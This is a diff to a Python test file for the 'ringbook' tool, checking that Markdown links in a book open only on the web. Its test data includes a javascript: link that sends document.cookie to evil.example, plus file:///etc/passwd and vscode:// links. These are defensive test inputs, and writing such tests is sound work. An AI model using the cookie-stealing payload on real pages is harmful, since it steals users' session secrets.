@@ -191,9 +191,10 @@ async def test_no_screen_obeys_markup_in_the_book(hostile, data_dir):
         assert app.is_running
 
 
-async def test_a_link_in_a_book_opens_only_on_the_web(book_copy, data_dir, monkeypatch):
+async def test_a_link_in_a_book_opens_only_on_the_web(chapters_copy, data_dir, monkeypatch):
     """A Markdown link is the author's: `javascript:` would run in the page `ringbook serve` shows (where
     the session's secret lives), `file:` would open a learner's file, a custom scheme start a program."""
+    book_copy = chapters_copy("00-ring-allreduce")
     chapter = book_copy / "00-ring-allreduce" / "chapter.md"
     links = ["javascript:fetch('https://evil.example/?'+document.cookie)", "file:///etc/passwd",
              "vscode://file/etc/passwd", "https://example.com/ring"]
